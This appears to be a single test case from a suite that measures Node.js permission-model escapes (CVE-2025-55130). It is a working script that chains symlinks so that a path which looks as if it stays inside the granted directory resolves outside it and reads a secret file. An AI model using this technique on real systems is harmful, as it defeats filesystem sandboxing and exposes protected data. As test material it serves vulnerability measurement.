// id: A19
// title: a chain of links gives a target that is inside by its text and outside by its meaning
// label: CVE-2025-55130 fixed in 20.20.0, 22.22.0, 24.13.0 and 25.3.0
// reference: https://nodejs.org/en/blog/vulnerability/december-2025-security-releases
// versions: >=20.0.0 <20.3.1 || >=20.16.0 <20.20.0 || >=21.0.0 <22.22.0 || >=23.0.0 <24.13.0 || >=25.0.0 <25.3.0
// measured: escapes: 20.3.0, 20.18.1, 25.2.1; denied: 20.5.0 to 20.15.0, 20.20.1 to 24.21.0, 25.8.1 to 26.10.0
// grants: --allow-fs-read={grant} --allow-fs-write={grant}
// prove: content
// stops: landlock
// note: between 20.3.1 and some release after 20.15.0 targets were normalised, so the link leads nowhere
'use strict';
const [grant, secret] = process.argv.slice(2);
const finish = (text) => { process.stdout.write(text.split('\n', 1)[0] + '\n'); process.exit(); };
const escaped = (evidence) => finish(`ESCAPED ${evidence}`);
const DENIAL = /^(ERR_ACCESS_DENIED|ERR_DLOPEN_DISABLED|ERR_DLOPEN_FAILED|EACCES|EPERM|ENOSYS|EXDEV|EROFS)$/;
const failed = (error) => finish(`${DENIAL.test(error.code) ? 'DENIED' : 'BROKEN'} ${error.code || error.name} ${error.message}`);
process.on('uncaughtException', failed);

const fs = require('fs');
const path = require('path');
try {
  fs.mkdirSync(`${grant}/a/b/c`, { recursive: true });
  fs.symlinkSync(grant, `${grant}/a/b/c/up`);
  // By its text the target is GRANT/a/b/c/NAME; the kernel goes through the link first and arrives beside GRANT.
  fs.symlinkSync(`${grant}/a/b/c/up/../${path.basename(secret)}`, `${grant}/out`);
  escaped(fs.readFileSync(`${grant}/out/secret.txt`, 'utf8'));
} catch (error) {
  failed(error.code === 'ENOENT' ? { code: 'EACCES', message: 'the target was normalised before the link was made' } : error);
}
